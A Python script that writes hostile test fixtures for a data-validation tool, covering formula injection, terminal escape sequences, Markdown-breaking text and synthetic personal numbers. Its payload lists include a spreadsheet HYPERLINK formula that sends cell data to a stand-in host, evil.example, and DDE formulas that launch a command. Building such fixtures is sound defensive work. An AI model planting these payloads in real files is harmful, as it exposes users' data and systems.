"""Write fixtures/hostile/: small files an adversary would hand jiesu (issue 8). Run from the repo root:

    python tools/make_hostile_fixtures.py

Big or special inputs (a file nested 20,000 levels deep, FIFOs, Parquet timestamps at INT64_MIN,
file names that are not UTF-8, a 10 MB field) are made by the tests themselves.
"""

from __future__ import annotations

import csv
import json
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1] / "fixtures"
OUT = ROOT / "hostile"

#: formulas a spreadsheet would run (OWASP's examples)
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3+cmd|' /C calc'!A0",
]
#: text that breaks Markdown tables or acts on a terminal
MARKUP = [
    "a|b",
    "line\nbreak",
    "\x1b[31mred\x1b[0m",
    "\x1b]8;;http://evil.example\x07link\x1b]8;;\x07",
    "\u202eevil\u202c",
]
PERSONAL = "caller 13812345678 ID 11010519491231002X"


def scoring_rows() -> tuple[list[str], list[list[str]]]:
    with open(ROOT / "scoring" / "cases.csv", encoding="utf-8", newline="") as fh:
        rows = list(csv.reader(fh))
    return rows[0], rows[1:]


def write_rows(path: Path, header: list[str], rows: list[list[str]]) -> None:
    with open(path, "w", encoding="utf-8", newline="") as fh:
        csv.writer(fh, lineterminator="\n").writerows([header, *rows])


def with_categories(values: list[str]) -> tuple[list[str], list[list[str]]]:
    """The scoring fixture, its categories replaced in turn by ``values``."""
    header, rows = scoring_rows()
    col = header.index("category")
    for i, row in enumerate(rows):
        row[col] = values[i % len(values)]
    return header, rows


def personal_records() -> list:
    """One record per way a personal number has reached a sample, an error or a column name."""
    base = {"case_id": "P0", "received_at": "2024-03-01T08:00:00+08:00", "channel": "phone",
            "request_type": "help", "category": "ENV-SANIT", "disposition": "answered", "status": "closed"}

    def rec(i: int, **kw: object) -> dict:
        return {**base, "case_id": f"P{i}", **kw}

    return [
        rec(1, objections="13812345678"),  # wrong-type
        "13812345678 is no object",  # not-an-object
        rec(3, channel="13812345678"),  # not-in-enum
        rec(4, received_at="13812345678"),  # invalid-date-time
        rec(5, disposition="dispatched", dispatched_at="2024-03-01T09:00:00+08:00", unit="110101001",
            unit_level="street", deadline_at="2024-03-02T09:00:00+08:00", objections=13812345678),  # out-of-range
        rec(6, case_id="13812345678 x"),  # pattern-mismatch
        rec(7, case_id="13812345678"),  # duplicate-case-id (with the next)
        rec(8, case_id="13812345678"),
        {**rec(9), "13812345678": "x"},  # a column named by a number (unknown-field)
        rec(10, topic="138-1234-5678"),  # personal-data in every form
        rec(11, topic="+8613812345678"),
        rec(12, topic="008613812345678"),
        rec(13, topic="110105491231002"),
        rec(14, topic="110105194912310021"),
        rec(15, topic="x@example.com"),
        rec(16, topic="138 1234 5678"),
    ]


def hostile_profile() -> str:
    """The scoring fixture's profile with formula, control and markup text in its names."""
    text = (ROOT / "scoring" / "profile.toml").read_text(encoding="utf-8")
    control = "bell\x07 esc\x1b[31m | pipe 13812345678"
    for old, new in [
        ('name = "测试市"', f"name = {json.dumps(FORMULAS[2])}"),
        ('name_en = "Fixture City"', f"name_en = {json.dumps(FORMULAS[3])}"),
        ('name = "一街"', f"name = {json.dumps(FORMULAS[0])}"),
        ('name = "二街"', f"name = {json.dumps(control)}"),
        ('name = "三街"', f"name = {json.dumps(FORMULAS[1])}"),
    ]:
        assert old in text, old
        text = text.replace(old, new, 1)
    return text


BOSTON_COLUMNS = [
    "CASE_ENQUIRY_ID", "OPEN_DT", "TARGET_DT", "CLOSED_DT", "CASE_STATUS", "TYPE", "QUEUE", "Source",
    "neighborhood",
]


def main() -> None:
    OUT.mkdir(parents=True, exist_ok=True)
    write_rows(OUT / "formula-categories.csv", *with_categories(FORMULAS))
    write_rows(OUT / "markup-categories.csv", *with_categories(MARKUP))
    header = ["case_id", "received_at", "channel", "request_type", "category", "disposition", "status"]
    rows = [["X1", "2024-03-01T08:00:00+08:00", "phone", "help", "ENV-SANIT", "answered", "closed"],
            ["X2", "2024-03-01T09:00:00+08:00", "phone", "help", "ENV-SANIT", "answered", "closed", PERSONAL]]
    write_rows(OUT / "extra-column.csv", header, rows)
    write_rows(OUT / "duplicate-columns.csv", ["case_id", "category", "13812345678", "13812345678"],
               [["D1", "ENV-SANIT", "a", "b"]])
    with open(OUT / "personal-numbers.ndjson", "w", encoding="utf-8") as fh:
        fh.writelines(json.dumps(r, ensure_ascii=False) + "\n" for r in personal_records())
    (OUT / "hostile-profile.toml").write_text(hostile_profile(), encoding="utf-8")
    boston = [["101000000001", "03/02/2015 10:00:00 AM", "03/04/2015 10:00:00 AM", "03/03/2015 10:00:00 AM",
               "Closed", "Pothole Repair (Internal)", FORMULAS[0], "Constituent Call", "Roxbury"],
              ["101000000002", "03/02/2015 11:00:00 AM", "", "", "Open", "=1+1", "PWDx_District 1A",
               "Self Service", "@SUM(1+1)"]]
    write_rows(OUT / "boston-formula-queue.csv", BOSTON_COLUMNS, boston)
    print(f"wrote fixtures under {OUT}")


if __name__ == "__main__":
    main()
